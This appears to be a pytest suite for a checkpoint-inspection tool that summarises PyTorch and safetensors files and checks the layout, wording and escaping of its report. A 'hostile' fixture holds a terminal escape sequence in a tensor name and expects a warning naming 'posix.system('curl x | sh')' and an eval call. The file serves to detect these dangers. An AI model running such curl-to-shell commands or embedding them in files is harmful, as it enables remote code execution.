"""A catalog as a page: the first line answers, then what needs attention, then the detail."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from unmoor.report.inspect import inspect_lines, inspect_text
from unmoor.report.layout import cells
from unmoor.values.catalog import Catalog
from unmoor.values.finding import Finding
from unmoor.values.nodes import Span

from .catalogs import adam, catalog, danger, opaque, part, tensor, training_checkpoint, transformer
from .golden import check_golden


def state_dict(**options) -> Catalog:
    """A bare model state dict of a transformer."""
    model = transformer((), device="cpu")
    return catalog([(part("model", (), model), model)], **options)


def optimizer_alone() -> Catalog:
    """An optimizer state dict and nothing else."""
    state = adam((), [(64, 32), (64,), (64, 32), (64,), (10, 64)])
    own = part("optimizer", (), state, family="Adam", params=6, with_state=5, options=[{"lr": 1e-3}])
    return catalog([(own, state)], tree={})


def hostile() -> Catalog:
    """A file that would run a command, with names that would move the cursor."""
    model = [tensor(("model", "\x1b[2Jweight"), (3, 3)), tensor(("model", "a" * 300), (3,))]
    findings = [danger(), danger("would run builtins.eval('1')", "hooks.0")]
    return catalog(
        [(part("model", ("model",), model), model)], findings=findings, tree={"callbacks": opaque("posix.system")}
    )


def two_models() -> Catalog:
    """A model and its moving average, tied tensor by tensor, with BatchNorm buffers on two devices."""
    shapes = {"conv.weight": (8, 3, 3, 3), "bn.weight": (8,), "bn.bias": (8,), "bn.running_mean": (8,)}
    parts = []
    for name in ("model", "ema"):
        held = [tensor((name, key), shape, role=name, device="cuda:0", storage=key) for key, shape in shapes.items()]
        held.append(tensor((name, "bn.num_batches_tracked"), (), role=name, dtype="int64"))
        parts.append((part(name, (name,), held), held))
    return catalog(parts, tree={})


def many_parts() -> Catalog:
    """An ensemble of three hundred models, each with its optimizer and a value."""
    parts = []
    for i in range(300):
        model = [tensor((f"member_{i}", "model", "weight"), (4, 4))]
        state = adam((f"member_{i}", "optimizer"), [(4, 4)], device="cpu")
        detail = {"family": "Adam", "params": 1, "with_state": 1, "options": [{"lr": 0.1}]}
        parts.append((part("model", (f"member_{i}", "model"), model), model))
        parts.append((part("optimizer", (f"member_{i}", "optimizer"), state, **detail), state))
        parts.append((part("extra", (f"member_{i}", "score"), kind="value"), []))
    return catalog(parts, tree={})


def with_findings() -> Catalog:
    """A file with findings of every severity, many of one code."""
    many = [Finding("meta-tensor", "warning", f"model.layers.{i}.w", "has no data", "save it again") for i in range(9)]
    error = Finding("span-outside", "error", "model.head", "its bytes lie outside the file", "get the file again")
    note = Finding("numpy-scalar", "info", "epoch", "is a numpy scalar")
    return state_dict(findings=[note, *many, error])


CATALOGS = {
    "training_checkpoint": training_checkpoint,
    "state_dict": state_dict,
    "optimizer": optimizer_alone,
    "hostile": hostile,
    "two_models": two_models,
    "many_parts": many_parts,
    "findings": with_findings,
    "empty": catalog,
}


@pytest.mark.parametrize("name", CATALOGS)
def test_text_at_80_columns(name):
    """The whole page, as a person sees it."""
    check_golden(f"inspect_{name}_80", inspect_text(CATALOGS[name]()))


@pytest.mark.parametrize("width", [40, 200])
def test_text_at_other_widths(width):
    """The same facts on a narrow and on a wide page."""
    check_golden(f"inspect_training_checkpoint_{width}", inspect_text(training_checkpoint(), width=width))


@pytest.mark.parametrize("width", [40, 64, 80, 200])
@pytest.mark.parametrize("name", CATALOGS)
def test_every_line_fits(name, width):
    """No line is wider than the page, and none ends in blanks."""
    for line in inspect_text(CATALOGS[name](), width=width).split("\n"):
        assert cells(line) <= width
        assert line == line.rstrip()


def test_all_lists_every_tensor_by_its_whole_name():
    """With all_tensors each tensor has a line that ends with its path, whatever its length."""
    found = training_checkpoint()
    lines = inspect_text(found, all_tensors=True).split("\n")
    assert [sum(line.endswith(f"  {entry.path}") for line in lines) for entry in found.tensors] == [1] * len(
        found.tensors
    )


def test_names_from_a_file_cannot_move_the_cursor():
    """An escape sequence in a name is shown, not obeyed."""
    text = inspect_text(hostile(), all_tensors=True)
    assert "\x1b" not in text
    assert "\\x1b[2Jweight" in text


@given(st.lists(st.tuples(st.lists(st.text(max_size=12), min_size=1, max_size=4), st.integers(0, 3)), max_size=12))
@settings(max_examples=60)
def test_any_names_make_a_page_that_fits(found):
    """Whatever the keys are, the page is printable and fits."""
    entries = [tensor(keys, (3,) * n, device="cuda:0" if n else "cpu") for keys, n in found]
    text = inspect_text(catalog([(part("model", (), entries), entries)]), width=60)
    assert all(line.isprintable() and cells(line) <= 60 for line in text.split("\n"))


@pytest.mark.parametrize(
    ("roles", "sentence"),
    [
        ([("model", ())], "a model state dict"),
        ([("model", ("state_dict",))], "a model state dict, inside a larger dict"),
        ([("optimizer", ())], "an optimizer state dict"),
        ([("scheduler", ())], "a scheduler state dict"),
        ([("rng", ("a",)), ("rng", ("b",))], "the states of random number generators"),
        ([("ema", ("e",)), ("model", ("m",))], "model weights (model + ema)"),
        (
            [("rng", ("r",)), ("optimizer", ("o",)), ("model", ("m",))],
            "a training checkpoint (model + optimizer + rng)",
        ),
        ([("model", ("a",)), ("model", ("b",)), ("optimizer", ("o",))], "a training checkpoint (2 models + optimizer)"),
        ([("optimizer", ("o",)), ("scheduler", ("s",))], "training state without a model (optimizer + scheduler)"),
        ([("extra", ("e",))], "values without a tensor"),
        ([], "nothing in it"),
    ],
)
def test_the_first_line_says_what_the_file_is(roles, sentence):
    """The kind of content is named by its parts, in one fixed order."""
    text = inspect_text(catalog([(part(role, keys), []) for role, keys in roles]), width=200)
    assert text.split("\n")[0] == f"torch zip, 1.0 KiB: {sentence}"


@pytest.mark.parametrize(
    ("dialect", "container", "start"),
    [
        ("plain", "torch-zip", "torch zip, 1.0 KiB, plain dict: "),
        ("plain", "safetensors", "safetensors, 1.0 KiB: "),
        ("lightning", "torch-zip", "torch zip, 1.0 KiB, written by Lightning: "),
        ("unmoor", "torch-zip", "torch zip, 1.0 KiB, saved by unmoor: "),
        ("somebody", "torch-legacy", "torch legacy stream (0.1.10-1.5), 1.0 KiB, written by somebody: "),
    ],
)
def test_the_first_line_says_format_and_writer(dialect, container, start):
    """Formats and dialects are told in words, unknown ones by their name."""
    assert inspect_text(catalog(dialect=dialect, container=container, tree={}), width=200).startswith(start)


def test_a_torchscript_archive_is_a_program():
    """A TorchScript file is told apart from a checkpoint, and is never called safe."""
    text = inspect_text(catalog(container="torchscript", loose=[tensor(("weight",))]), width=200)
    assert "a program with its weights, not a checkpoint (1 tensor)" in text
    assert "holds a program, none of it was run" in text
    assert "safe" not in text


def test_classes_that_need_code_are_named():
    """Unknown classes are counted once each and named, wherever they stand in the tree."""
    cycle: dict = {"config": opaque("argparse.Namespace"), "again": [opaque("argparse.Namespace"), {opaque("x.Y")}]}
    cycle["self"] = cycle
    text = inspect_text(catalog(tree=cycle))
    assert "names 2 classes that would need code: argparse.Namespace, x.Y" in text
    assert "safe" not in text


def test_a_danger_is_told_once_and_above_all_detail():
    """The first danger stands under the headline; it is not repeated among the findings, others are."""
    text = inspect_text(hostile(), width=200)
    assert text.split("\n")[2].startswith("DANGEROUS: would run posix.system('curl x | sh') at callbacks")
    assert text.count("posix.system") == 1
    assert text.count("builtins.eval") == 1


def test_tones_repeat_the_words():
    """A line is painted as dangerous, wrong or doubtful only where its words say so."""
    lines = [*inspect_lines(with_findings()), *inspect_lines(hostile())]
    painted = {line.tone: line.text for line in reversed(lines) if line.tone}
    assert painted["danger"].startswith("DANGEROUS")
    assert painted["error"].startswith("error")
    assert painted["warning"].startswith("warning")
    assert painted["headline"].startswith("torch zip")


def test_devices_are_told_with_whose_they_are():
    """The tensors on a second device are told by role, an optimizer's by their key."""
    assert "saved on cuda:0 (163 tensors) and cpu (57: Adam's step and rng)" in inspect_text(training_checkpoint())


def test_many_devices_are_told_by_their_number_and_ends():
    """A file of sixteen devices does not fill the page with tags."""
    entries = [tensor(("model", str(i)), device=f"cuda:{i}") for i in range(16)]
    text = inspect_text(catalog([(part("model", ("model",), entries), entries)]))
    assert "saved on 16 devices, cuda:0 to cuda:15 (16 tensors)" in text


def test_tensors_without_a_device_are_told_so():
    """A format that records no devices is not said to be on one."""
    entries = [tensor(("w",), device="")]
    assert "1 tensor, no device recorded" in inspect_text(catalog([(part("model", (), entries), entries)]))


def test_safetensors_is_not_said_to_be_saved_on_the_cpu():
    """The format records no devices, so none is claimed."""
    text = inspect_text(state_dict(container="safetensors"))
    assert "55 tensors, no device recorded" in text
    assert "cpu" not in text


def test_a_pickled_object_is_not_called_a_state_dict():
    """A whole module in a file is told apart from its state dict, with its class."""
    entries = [tensor(("weight",))]
    own = part("model", (), entries, kind="object", **{"class": "torch.nn.Linear"})
    text = inspect_text(catalog([(own, entries)]))
    assert "a pickled model object" in text
    assert "pickled object of torch.nn.Linear" in " ".join(text.split())


def test_notes_stand_below_what_needs_attention():
    """An info finding is a note below the table, a warning stands above it."""
    lines = inspect_text(with_findings()).split("\n")
    table = next(i for i, line in enumerate(lines) if line.startswith("  role"))
    places = {line.split(":")[0]: i for i, line in enumerate(lines) if ":" in line}
    assert places["error"] < places["warning"] < table < places["note"]


def test_the_device_column_is_left_out_where_all_parts_agree():
    """What the second line has said is not said again."""
    assert "device" not in inspect_text(state_dict())
    assert "device" in inspect_text(training_checkpoint())


def test_tensors_that_differ_in_one_storage_are_views():
    """Tensors of different windows of a storage are told as views of it, with its size."""
    entries = [tensor(("model", name), (4,), storage="0", offset=i) for i, name in enumerate("abc")]
    entries = [entry.__class__(**{**_fields(entry), "span": Span(0, 4096)}) for entry in entries]
    text = inspect_text(catalog([(part("model", ("model",), entries), entries)]))
    assert "views model.a, model.b and 1 more lie in one storage of 4.0 KiB" in _words(text)


def test_many_ties_between_two_places_are_one_line():
    """A moving average that shares every tensor with its model is one line."""
    assert "tied model = ema: 4 tensors each" in _words(inspect_text(two_models()))


def test_tensors_outside_any_part_are_listed():
    """No tensor is left out because no part owns it."""
    text = inspect_text(catalog(loose=[tensor(("stuff", "a"), (2, 2))]))
    assert "1 tensor, not known as a part of a training run" in text
    assert "stuff.a" in text


def test_a_single_tensor_is_a_file_too():
    """A file that is one tensor has a page."""
    entry = tensor((), (5, 2))
    text = inspect_text(catalog([(part("extra", (), [entry]), [entry])]))
    assert "(the tensor itself)  5x2" in text


def test_long_trees_are_cut_and_say_so():
    """A model of hundreds of different layers is told by its first rows and the number of the rest."""
    entries = [tensor(("model", f"layer_{i}.weight"), (i + 1, 3)) for i in range(300)]
    text = inspect_text(catalog([(part("model", ("model",), entries), entries)]))
    assert "and 260 tensors more" in text
    assert len(text.split("\n")) < 60


def _fields(entry):
    return {name: getattr(entry, name) for name in entry.__dataclass_fields__}


def _words(text: str) -> str:
    return " ".join(text.split())
